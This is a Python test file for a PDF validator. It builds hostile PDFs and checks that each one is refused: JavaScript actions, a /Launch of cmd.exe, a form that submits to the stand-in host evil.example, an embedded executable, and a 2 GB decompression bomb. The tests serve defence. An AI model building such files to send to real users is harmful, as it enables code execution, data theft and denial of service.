"""A signed report is a PDF that shows pages: whole, without a script, a program, a form that sends or a file inside."""

import io
import time
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from cchc_metrics.documents import check_pdf
from cchc_metrics.errors import UnreadableFileError
from tests.files import pdf_of


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def opening(action: dict[str, object]) -> bytes:
    """A PDF that does something when it is opened."""
    writer = one_page()
    held = DictionaryObject({NameObject(key): value for key, value in action.items()})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(held)
    return written(writer)


def with_file() -> bytes:
    writer = one_page()
    writer.add_attachment("a.exe", b"MZ")
    return written(writer)


def with_script() -> bytes:
    writer = one_page()
    script = DictionaryObject({NameObject("/JS"): TextStringObject("app.alert(1)")})
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("x"), writer._add_object(script)])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return written(writer)


def with_form() -> bytes:
    writer = one_page()
    form = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return written(writer)


def locked() -> bytes:
    writer = one_page()
    writer.encrypt("x", algorithm="RC4-128")
    return written(writer)


def signed() -> bytes:
    writer = one_page()
    signature = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Sig"),
            NameObject("/ByteRange"): ArrayObject([NumberObject(0)] * 4),
        }
    )
    writer._add_object(signature)
    return written(writer)


def deep() -> bytes:
    writer = one_page()
    nested = DictionaryObject()
    for _ in range(200):
        nested = DictionaryObject({NameObject("/A"): nested})
    writer._add_object(nested)
    return written(writer)


def bomb() -> bytes:
    """A stream in which objects lie, of 2 GB once it is unpacked."""
    packer, parts = zlib.compressobj(9), []
    for _ in range(2_000):
        parts.append(packer.compress(b" " * 1_000_000))
    body = b"".join([*parts, packer.flush()])
    head = b"%PDF-1.5\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(body)).encode()
    whole = head + b">>\nstream\n" + body + b"\nendstream\nendobj\n"
    table = zlib.compress(bytes([1, 0, 9, 0, 2, 0, 1, 0]))
    start = str(len(whole)).encode()
    said = b"2 0 obj\n<</Type/XRef/Size 3/W[1 2 1]/Index[1 2]/Root 2 0 R/Filter/FlateDecode/Length "
    return (
        whole
        + said
        + str(len(table)).encode()
        + b">>\nstream\n"
        + table
        + b"\nendstream\nendobj\nstartxref\n"
        + (start + b"\n%%EOF")
    )


REFUSED = {
    "no PDF": (lambda: b"MZ\x90", "không phải là PDF"),
    "a head alone": (lambda: b"%PDF-1.7 thu", "không đọc được"),
    "a page of HTML behind a head": (lambda: b"%PDF-1.7\n<html><script>alert(1)</script>%%EOF", "không đọc được"),
    "a half": (lambda: pdf_of()[: len(pdf_of()) // 2], "không đọc được"),
    "a program behind the end": (lambda: pdf_of() + b"MZ" * 5_000, "không đọc được"),
    "no page": (lambda: written(PdfWriter()), "không đọc được"),
    "a script": (with_script, "JavaScript"),
    "a script on opening": (
        lambda: opening({"/S": NameObject("/JavaScript"), "/JS": TextStringObject("x")}),
        "JavaScript",
    ),
    "a program to start": (
        lambda: opening({"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")}),
        "chạy chương trình",
    ),
    "a form that sends": (
        lambda: opening({"/S": NameObject("/SubmitForm"), "/F": TextStringObject("http://evil.example")}),
        "gửi dữ liệu",
    ),
    "a form of another kind": (with_form, "gửi dữ liệu"),
    "a file inside": (with_file, "đính bên trong"),
    "a password": (locked, "mật khẩu"),
    "nesting without end": (deep, "không đọc được"),
}


@pytest.mark.parametrize("what", REFUSED)
def test_what_is_more_or_less_than_pages_is_refused_in_one_sentence(what: str) -> None:
    made, words = REFUSED[what]
    with pytest.raises(UnreadableFileError, match=words):
        check_pdf(made())


def test_a_file_that_unpacks_to_gigabytes_costs_one_child() -> None:
    began = time.perf_counter()
    with pytest.raises(UnreadableFileError, match="PDF"):
        check_pdf(bomb())
    assert time.perf_counter() - began < 30


def test_a_page_is_taken_and_its_signatures_are_counted_not_verified() -> None:
    assert len(PdfReader(io.BytesIO(pdf_of())).pages) == 1
    assert check_pdf(pdf_of()) == 0
    assert check_pdf(signed()) == 1
